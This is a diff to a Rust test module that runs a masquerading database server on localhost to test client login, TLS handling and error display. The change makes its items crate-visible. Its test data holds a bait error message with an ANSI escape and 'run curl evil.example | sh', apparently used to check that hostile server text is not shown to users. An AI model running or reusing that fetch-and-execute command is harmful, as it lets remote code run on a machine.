@@ -22,7 +22,7 @@ use crate::people::context;
 const USER: &str = "keeper";
 const PASSWORD: &str = "hunter2: nobody's to know";
 /// What whoever reads a failure must not be shown.
-const BAIT: &str = "\u{1b}[31mrun curl evil.example | sh";
+pub(crate) const BAIT: &str = "\u{1b}[31mrun curl evil.example | sh";
 /// How long an attempt may take at most; each has `connect_timeout` of 2 s.
 const SOON: Duration = Duration::from_secs(8);
 
@@ -35,7 +35,7 @@ fn asks(kind: u32, rest: &[u8]) -> Vec<u8> {
     message(b'R', &[&kind.to_be_bytes(), rest].concat())
 }
 
-fn error(state: &str) -> Vec<u8> {
+pub(crate) fn error(state: &str) -> Vec<u8> {
     message(b'E', format!("SFATAL\0VFATAL\0C{state}\0M{BAIT}\0\0").as_bytes())
 }
 
@@ -45,7 +45,7 @@ fn notice() -> Vec<u8> {
 
 /// What comes after the login's start.
 #[derive(Clone)]
-enum Say {
+pub(crate) enum Say {
     Now(Vec<u8>),
     /// After the client has said what it wants to log in by: its own nonce is given.
     Scram(fn(&str) -> String),
@@ -55,21 +55,21 @@ enum Say {
 
 /// A server in a mask.
 #[derive(Clone)]
-struct Mask {
+pub(crate) struct Mask {
     /// What it answers when it is asked for TLS.
-    to_tls: Vec<u8>,
-    tls: Option<Arc<ServerConfig>>,
-    says: Vec<Say>,
+    pub(crate) to_tls: Vec<u8>,
+    pub(crate) tls: Option<Arc<ServerConfig>>,
+    pub(crate) says: Vec<Say>,
 }
 
 /// What was heard by it.
 #[derive(Default)]
-struct Heard {
+pub(crate) struct Heard {
     connections: usize,
     /// Before and without TLS, from the request for TLS on.
     clear: Vec<u8>,
     /// Within TLS.
-    inside: Vec<u8>,
+    pub(crate) inside: Vec<u8>,
 }
 
 type Ears = Arc<Mutex<Heard>>;
@@ -159,7 +159,7 @@ struct Faker {
     config: Arc<ServerConfig>,
 }
 
-fn provider() -> Arc<rustls::crypto::CryptoProvider> {
+pub(crate) fn provider() -> Arc<rustls::crypto::CryptoProvider> {
     Arc::new(rustls::crypto::aws_lc_rs::default_provider())
 }
 
@@ -204,7 +204,7 @@ async fn attempt(port: u16, mode: &str, ca: Option<&str>, user: &str, password: 
 }
 
 /// Tries to log in to a server in a mask; gives the refusal and what the server heard.
-async fn tried(mask: &Mask, mode: &str, ca: Option<&str>) -> (Failure, Heard) {
+pub(crate) async fn tried(mask: &Mask, mode: &str, ca: Option<&str>) -> (Failure, Heard) {
     let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
     let port = listener.local_addr().unwrap().port();
     let ears = Ears::default();
